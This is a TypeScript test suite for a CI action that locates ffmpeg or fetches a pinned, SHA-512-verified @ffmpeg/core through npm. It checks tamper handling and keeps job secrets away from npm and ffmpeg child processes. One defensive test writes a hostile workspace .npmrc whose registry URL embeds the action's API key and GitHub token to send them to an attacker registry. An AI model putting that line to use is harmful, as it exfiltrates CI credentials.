/**
 * Finding ffmpeg, and fetching the pinned one for `preview: true`: the runner's own `npm pack` against a loopback
 * registry that serves the real tarball of the pinned version (from npm's cache, where `npm ci` put it), the
 * SHA-512 checks (of the tarball, and of the tool cache's copy before each use), the tool cache, what npm may see
 * (no secret, no workspace configuration), and the failures, each a sentence with the fix.
 */
import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { appendFile, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import * as ffmpegModule from '../src/ffmpeg.js'
import { locateFfmpeg, type Located } from '../src/ffmpeg.js'
import { Previewer } from '../src/preview.js'
import { integrityOf, startNpmRegistry, type NpmRegistryFake } from './fakes/npm-registry.ts'
import {
  FFMPEG,
  FFMPEG_TESTS,
  makeClip,
  recordingProgram,
  tarballFromNpmCache,
  toolsOnlyPath,
  which,
} from './harness/ffmpeg.ts'
import { ROOT } from './harness/runner.ts'

const PINNED = ffmpegModule.FFMPEG_WASM
/** Where the fetched core lands in the tool cache. */
const CACHED = (toolCache: string): string => path.join(toolCache, 'ffmpeg-wasm', PINNED.version, 'wasm')
let tarball: Buffer
let tools: string
let realNpm: string
const cleanup: (() => Promise<void>)[] = []
beforeAll(async () => {
  tarball = await tarballFromNpmCache(PINNED.integrity)
  tools = await toolsOnlyPath()
  realNpm = which('npm')
})
afterEach(async () => {
  vi.unstubAllEnvs()
  await Promise.all(cleanup.splice(0).map((close) => close()))
})

/** A runner without ffmpeg: its PATH has only npm, tar and gzip; npm's cache and HOME are empty. */
async function bareRunner(registry?: NpmRegistryFake): Promise<{ toolCache: string }> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'ffmpeg-fetch-test-'))
  cleanup.push(() => rm(root, { recursive: true, force: true }))
  const toolCache = path.join(root, 'tool-cache')
  await mkdir(path.join(root, 'temp'))
  vi.stubEnv('PATH', tools)
  vi.stubEnv('HOME', root)
  vi.stubEnv('RUNNER_TOOL_CACHE', toolCache)
  vi.stubEnv('RUNNER_TEMP', path.join(root, 'temp'))
  vi.stubEnv('npm_config_cache', path.join(root, 'npm-cache'))
  vi.stubEnv('npm_config_userconfig', path.join(root, 'npmrc'))
  if (registry) vi.stubEnv('npm_config_registry', registry.url)
  return { toolCache }
}

async function registryServing(bytes: Buffer): Promise<NpmRegistryFake> {
  const registry = await startNpmRegistry({ name: PINNED.name, version: PINNED.version, tarball: bytes })
  cleanup.push(() => registry.close())
  return registry
}

const log = () => {
  const lines: string[] = []
  return { lines, log: (m: string) => lines.push(m) }
}

describe.runIf(FFMPEG_TESTS)('locateFfmpeg', () => {
  it("the pin is the registry's own integrity of the version the lockfile installs", async () => {
    const lock = JSON.parse(await readFile(path.join(ROOT, 'package-lock.json'), 'utf8')) as {
      packages: Record<string, { version?: string; integrity?: string }>
    }
    expect(lock.packages[`node_modules/${PINNED.name}`]).toMatchObject({
      version: PINNED.version,
      integrity: PINNED.integrity,
    })
    expect(integrityOf(tarball)).toBe(PINNED.integrity)
  })

  it("'true' without ffmpeg on PATH: npm pack from the configured registry, SHA-512 checked, into the tool cache", async () => {
    const registry = await registryServing(tarball)
    const { toolCache } = await bareRunner(registry)
    const { lines, log: say } = log()
    const found = await locateFfmpeg('true', { log: say })
    expect(found).toEqual({ wasmDir: CACHED(toolCache), source: 'npm' })
    // npm reads the package's metadata (it may ask twice), then fetches the tarball once.
    expect(new Set(registry.requests)).toEqual(
      new Set([`/${PINNED.name}`, `/${PINNED.name}/-/core-${PINNED.version}.tgz`]),
    )
    expect(registry.requests.filter((request) => request.endsWith('.tgz'))).toHaveLength(1)
    expect(existsSync(`${CACHED(toolCache)}.complete`)).toBe(true)
    // Only what the core needs is kept: one copy of the WebAssembly, not the package's two.
    expect((await readdir(CACHED(toolCache))).sort()).toEqual(['ffmpeg-core.js', 'ffmpeg-core.wasm'])
    expect(lines.join('\n')).toContain('SHA-512 verified')

    // The next step (or run, on a self-hosted runner) finds it in the tool cache: nothing is fetched again.
    const asked = registry.requests.length
    const again = await locateFfmpeg('true', { log: say })
    expect(again).toEqual({ ...found, source: 'tool cache' })
    expect(registry.requests).toHaveLength(asked)
  })

  it('a tarball that is not the pinned one is refused, even when the registry vouches for it', async () => {
    // The same files, packed again: a valid tarball whose bytes (and so SHA-512) differ from the published one.
    const repacked = gzipSync(gunzipSync(tarball), { level: 1 })
    const registry = await registryServing(repacked)
    const { toolCache } = await bareRunner(registry)
    const found = await locateFfmpeg('true', { log: () => {} })
    const { missing } = found as { missing: string }
    expect(missing).toContain(`not the pinned ${PINNED.integrity}; it was not used`)
    expect(missing).toMatch(/npm config get registry/)
    expect(existsSync(path.join(toolCache, 'ffmpeg-wasm'))).toBe(false)
  })

  it('a registry without the package: the npm failure, and what to do', async () => {
    const registry = await startNpmRegistry({ name: '@someone/else', version: '1.0.0', tarball: Buffer.from('x') })
    cleanup.push(() => registry.close())
    await bareRunner(registry)
    const found = await locateFfmpeg('true', { log: () => {} })
    expect((found as { missing: string }).missing).toMatch(
      /^'npm pack @ffmpeg\/core@0\.12\.10' failed: .*404.* Check that npm can reach its registry/,
    )
  })

  it("'auto' without ffmpeg on PATH asks no registry and says how to get a preview", async () => {
    const registry = await registryServing(tarball)
    await bareRunner(registry)
    expect(await locateFfmpeg('auto', { log: () => {} })).toEqual({
      missing:
        "no ffmpeg on PATH. Set 'preview: true' to fetch a pinned, checksum-verified ffmpeg, or install ffmpeg in " +
        "an earlier step; 'preview: false' silences this.",
    })
    expect(registry.requests).toEqual([])
  })

  it('an ffmpeg on PATH is used as it is, in either mode, without asking a registry', async () => {
    const registry = await registryServing(tarball)
    await bareRunner(registry)
    vi.stubEnv('PATH', `${tools}${path.delimiter}${path.dirname(FFMPEG)}`)
    for (const mode of ['auto', 'true'] as const)
      expect(await locateFfmpeg(mode, { log: () => {} })).toEqual({ path: FFMPEG, source: 'PATH' })
    expect(registry.requests).toEqual([])
  })
})

/** What `ffmpeg -version` says of the ffmpeg found, however it runs. */
async function versionOf(found: Located): Promise<string> {
  if ('path' in found) return execFileSync(found.path, ['-hide_banner', '-version'], { encoding: 'utf8' })
  if (!('wasmDir' in found)) throw new Error(`no ffmpeg: ${found.missing}`)
  const session = await ffmpegModule.openFfmpeg(found, path.join(ROOT, 'test', 'fixtures', 'clip-3s.mp4'), 60_000)
  try {
    const run = await session.run(['-hide_banner', '-version'])
    return run.stdout + run.stderr
  } finally {
    await session.close()
  }
}

describe.runIf(FFMPEG_TESTS)('the pinned ffmpeg', () => {
  it("'preview: true' fetches FFmpeg 5.1 or later, never the 2018 build", async () => {
    const registry = await registryServing(tarball)
    await bareRunner(registry)
    const found = await locateFfmpeg('true', { log: () => {} })
    const version = await versionOf(found)
    expect(version).toMatch(/^ffmpeg version n?\d+\.\d+/m)
    const [, major, minor] = /^ffmpeg version n?(\d+)\.(\d+)/m.exec(version) ?? []
    expect(Number(major) * 100 + Number(minor)).toBeGreaterThanOrEqual(501)
  })

  it('a tool-cache copy that no longer matches its pinned SHA-512 is not used, and nothing runs it', async () => {
    const registry = await registryServing(tarball)
    const { toolCache } = await bareRunner(registry)
    expect(await locateFfmpeg('true', { log: () => {} })).not.toHaveProperty('missing')
    // Whatever was kept, each file is changed after the fetch (a self-hosted runner's cache outlives the run).
    const kept = await readdir(toolCache, { recursive: true, withFileTypes: true })
    const files = kept.filter((entry) => entry.isFile() && !entry.name.endsWith('.complete'))
    expect(files.length).toBeGreaterThan(0)
    for (const file of files) await appendFile(path.join(file.parentPath, file.name), 'tampered')
    const asked = registry.requests.length
    const { missing } = (await locateFfmpeg('true', { log: () => {} })) as { missing?: string }
    expect(missing).toMatch(
      /^the tool cache's .+ has SHA-512 sha512-.+, not the pinned sha512-.+; it was not used\. Delete /,
    )
    expect(registry.requests).toHaveLength(asked)
  })
})

describe.runIf(FFMPEG_TESTS)('what npm may see', () => {
  const SECRETS = {
    'INPUT_API-KEY': 'sk-npm-test-input-key-0123456789',
    GH_TOKEN: 'ghs_npmTestJobLevelToken0123456789',
    ACTIONS_RUNTIME_TOKEN: 'runtime-token-npm-test-0123456789',
    XAI_API_KEY: 'xai-npm-test-job-key-0123456789',
  }

  it("'preview: true' runs npm outside the workspace with no secret: a workspace .npmrc configures nothing, the runner's user config still applies", async () => {
    const mirror = await registryServing(tarball)
    const attacker = await startNpmRegistry({ name: PINNED.name, version: PINNED.version, tarball })
    cleanup.push(() => attacker.close())
    const { toolCache } = await bareRunner()
    const root = path.dirname(toolCache)
    // The runner's own npm configuration names the mirror (as setup-node's registry-url does).
    await writeFile(path.join(root, 'npmrc'), `registry=${mirror.url}\n`)
    // Pull-request content: a .npmrc that would send the action's key to another host.
    const workspace = path.join(root, 'workspace')
    await mkdir(workspace)
    await writeFile(path.join(workspace, '.npmrc'), `registry=${attacker.url}\${INPUT_API-KEY}/\${GH_TOKEN}/\n`)
    await writeFile(path.join(workspace, 'package.json'), '{"name":"pr","version":"1.0.0"}\n')
    for (const [name, value] of Object.entries(SECRETS)) vi.stubEnv(name, value)
    const npm = await recordingProgram('npm', realNpm)
    cleanup.push(() => rm(npm.dir, { recursive: true, force: true }))
    vi.stubEnv('PATH', `${npm.dir}${path.delimiter}${tools}`)
    const clip = makeClip(path.join(root, 'clip.mp4'), { seconds: 1, size: '320x180' })

    const warnings: string[] = []
    const previewer = new Previewer('true', { info: () => {}, warning: (m) => warnings.push(m) }, { cwd: workspace })
    const outcome = await previewer.make(clip, 'clip')

    expect(attacker.requests).toEqual([])
    expect(mirror.requests.filter((request) => request.endsWith('.tgz'))).toHaveLength(1)
    const environment = await npm.environment()
    expect(environment).toContain(`npm_config_userconfig=${path.join(root, 'npmrc')}`)
    const seen = JSON.stringify([mirror.requests, mirror.headers]) + environment + (await npm.calls()).join('\n')
    for (const secret of Object.values(SECRETS)) expect(seen).not.toContain(secret)
    expect(warnings).toEqual([])
    expect(outcome.files?.posterPath).toBe(path.join(root, 'clip.poster.png'))
  })
})

describe('childEnv', () => {
  const runner = {
    PATH: '/usr/bin',
    Path: 'C:\\Windows',
    SystemRoot: 'C:\\Windows',
    ComSpec: 'C:\\Windows\\system32\\cmd.exe',
    LANG: 'C.UTF-8',
    LC_ALL: 'C.UTF-8',
    TMPDIR: '/tmp/r',
    TEMP: 'C:\\Temp',
    HOME: '/home/runner',
    HTTPS_PROXY: 'http://proxy:3128',
    no_proxy: 'localhost',
    npm_config_registry: 'https://mirror.example/',
    NPM_CONFIG_USERCONFIG: '/tmp/r/.npmrc',
    NODE_AUTH_TOKEN: 'npm-token',
    NODE_OPTIONS: '--require /tmp/x.js',
    GH_TOKEN: 'ghs_x',
    GITHUB_TOKEN: 'ghs_y',
    'INPUT_API-KEY': 'sk-x',
    'INPUT_GITHUB-TOKEN': 'ghs_z',
    ACTIONS_RUNTIME_TOKEN: 'rt',
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc',
    XAI_API_KEY: 'xai-x',
    COMETAPI_KEY: 'sk-y',
    GITHUB_WORKSPACE: '/home/runner/work/r/r',
  }

  it('ffmpeg gets the path, locale, temporary directories and what Windows needs to start a process; nothing else', () => {
    expect(ffmpegModule.childEnv('ffmpeg', runner)).toEqual({
      PATH: '/usr/bin',
      Path: 'C:\\Windows',
      SystemRoot: 'C:\\Windows',
      ComSpec: 'C:\\Windows\\system32\\cmd.exe',
      LANG: 'C.UTF-8',
      LC_ALL: 'C.UTF-8',
      TMPDIR: '/tmp/r',
      TEMP: 'C:\\Temp',
    })
  })

  it('npm gets also its own settings and credential, proxies and home; no job secret, no input, no NODE_OPTIONS', () => {
    expect(ffmpegModule.childEnv('npm', runner)).toEqual({
      ...ffmpegModule.childEnv('ffmpeg', runner),
      HOME: '/home/runner',
      HTTPS_PROXY: 'http://proxy:3128',
      no_proxy: 'localhost',
      npm_config_registry: 'https://mirror.example/',
      NPM_CONFIG_USERCONFIG: '/tmp/r/.npmrc',
      NODE_AUTH_TOKEN: 'npm-token',
    })
  })
})
